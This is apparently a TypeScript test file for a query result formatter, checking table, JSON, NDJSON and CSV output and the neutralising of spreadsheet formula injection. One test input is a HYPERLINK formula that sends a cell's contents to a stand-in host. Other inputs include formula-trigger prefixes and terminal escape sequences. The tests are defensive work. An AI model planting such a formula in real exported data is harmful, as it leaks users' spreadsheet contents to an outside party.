import { type Format, formatResult } from '../../src/query/format';
import type { Result, ResultColumn, Row } from '../../src/query/result';

const columns: readonly ResultColumn[] = [
  { name: 'time', type: 'time' },
  { name: 'user_agent', type: 'string' },
  { name: 'value', type: 'int' },
  { name: 'relay', type: 'bool' },
];

const rows: readonly Row[] = [
  [1_700_000_000_000_000_001n, 'a,"b"\nc', 9_007_199_254_740_993n, true],
  [1_700_000_000_000_000_000n, 'évil\u001b[31m\u202e', -5, false],
  [0n, '', null, null],
];

async function* batches(all: readonly Row[]): AsyncGenerator<readonly Row[]> {
  for (const row of all) yield await Promise.resolve([row]);
  yield [];
}

async function formatted(format: Format, all: readonly Row[] = rows): Promise<string> {
  const result: Result = { columns, rows: batches(all) };
  let text = '';
  for await (const piece of formatResult(result, format)) text += piece;
  return text;
}

it('table: aligned, numbers to the right, no control characters', async () => {
  expect(await formatted('table')).toBe(
    [
      'time                            user_agent                       value  relay',
      '------------------------------  --------------------  ----------------  -----',
      '2023-11-14T22:13:20.000000001Z  a,"b"\\u000ac          9007199254740993  true',
      '2023-11-14T22:13:20Z            évil\\u001b[31m\\u202e                -5  false',
      '1970-01-01T00:00:00Z                                                 -  -',
      '',
    ].join('\n'),
  );
});

it('json: one array, integers with all their digits', async () => {
  const text = await formatted('json');
  expect(text).toContain('"value":9007199254740993,');
  expect(JSON.parse(text)).toHaveLength(3);
  expect(await formatted('json', [])).toBe('[]\n');
});

it('ndjson: one object a line', async () => {
  const lines = (await formatted('ndjson')).split('\n');
  expect(lines).toHaveLength(4);
  expect(JSON.parse(lines[2] ?? '')).toEqual({
    time: '1970-01-01T00:00:00.000000000Z',
    user_agent: '',
    value: null,
    relay: null,
  });
});

it('csv: follows RFC 4180', async () => {
  expect(await formatted('csv')).toBe(
    'time,user_agent,value,relay\r\n' +
      '2023-11-14T22:13:20.000000001Z,"a,""b""\nc",9007199254740993,true\r\n' +
      '2023-11-14T22:13:20.000000000Z,évil\u001b[31m\u202e,-5,false\r\n' +
      '1970-01-01T00:00:00.000000000Z,,,\r\n',
  );
});

it('a table longer than its sample', async () => {
  const long = Array.from({ length: 2500 }, (_, index): Row => [BigInt(index), 'x', index, null]);
  expect((await formatted('table', long)).split('\n')).toHaveLength(2503);
});

describe('csv of texts that a spreadsheet would compute', () => {
  const formula = '=HYPERLINK("http://x.example/?"&A1)';
  const odd: Result['columns'] = [
    { name: '=1+1', type: 'string' },
    { name: 'n', type: 'int' },
    { name: 'f', type: 'float' },
    { name: 'l', type: 'other' },
  ] as Result['columns'];
  const write = async (format: Format, texts: readonly string[]): Promise<string[]> => {
    const all = texts.map((text): Row => [text, -5n, '-Infinity', text]);
    let text = '';
    for await (const piece of formatResult({ columns: odd, rows: batches(all) }, format)) text += piece;
    return text.split('\r\n');
  };

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\uff1d1+1'])(
    'puts an apostrophe before %j',
    async (cell) => {
      expect(await write('csv', [cell])).toEqual(["'=1+1,n,f,l", `'${cell},-5,-Infinity,'${cell}`, '']);
    },
  );

  it('quotes the result if needed', async () => {
    expect((await write('csv', [formula]))[1]).toBe(
      `"'${formula.replaceAll('"', '""')}",-5,-Infinity,"'${formula.replaceAll('"', '""')}"`,
    );
    expect(await write('csv', ['\rx'])).toEqual(["'=1+1,n,f,l", `"'\rx",-5,-Infinity,"'\rx"`, '']);
  });

  it('leaves other texts, numbers and times as they are', async () => {
    expect((await write('csv', ['a=1', "'", '', ' x']))[1]).toBe('a=1,-5,-Infinity,a=1');
    expect((await formatted('csv')).split('\r\n')[2]).toMatch(
      /^2023-11-14T22:13:20\.000000000Z,.*,-5,false$/,
    );
  });

  it('leaves all texts as they are in csv-raw', async () => {
    expect(await write('csv-raw', ['=1+1'])).toEqual(['=1+1,n,f,l', '=1+1,-5,-Infinity,=1+1', '']);
  });
});
